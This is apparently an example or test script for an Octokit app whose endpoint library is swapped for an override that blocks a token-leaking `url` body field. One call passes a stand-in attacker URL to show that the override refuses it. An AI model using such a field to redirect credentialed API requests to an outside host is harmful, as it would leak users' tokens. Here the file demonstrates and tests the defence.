// An Octokit app whose @octokit/endpoint is endpointkit, through the override in package.json: nothing in the code
// changes. GITHUB_API_URL points it at another host (the test: a local server), GITHUB_TOKEN is the credential.
import { Octokit } from "@octokit/core";
import { restEndpointMethods } from "@octokit/plugin-rest-endpoint-methods";

const MyOctokit = Octokit.plugin(restEndpointMethods);
const octokit = new MyOctokit({ auth: process.env.GITHUB_TOKEN, baseUrl: process.env.GITHUB_API_URL ?? "https://api.github.com" });
const repo = { owner: "octocat", repo: "hello-world" };

const { data: issue } = await octokit.rest.issues.create({ ...repo, title: "Found a bug", labels: ["bug"] });
const { data: file } = await octokit.rest.repos.getContent({ ...repo, path: "docs/README.md", ref: "main" });

// What the override refuses: a body field named `url` would replace the REST method's URL and send the request,
// token and all, to that address (difference 13). It throws before anything is sent; pass such a body in `data`.
let refused;
try {
  await octokit.rest.repos.updateWebhookConfigForRepo({ ...repo, hook_id: 1, url: "https://attacker.example/hook" });
} catch (error) {
  refused = error.code;
}
await octokit.request("PATCH /repos/{owner}/{repo}/hooks/{hook_id}/config", {
  ...repo,
  hook_id: 1,
  data: { url: "https://ci.example/hook", content_type: "json" },
});

console.log(JSON.stringify({ issue: issue.number, file: file.name, refused }));
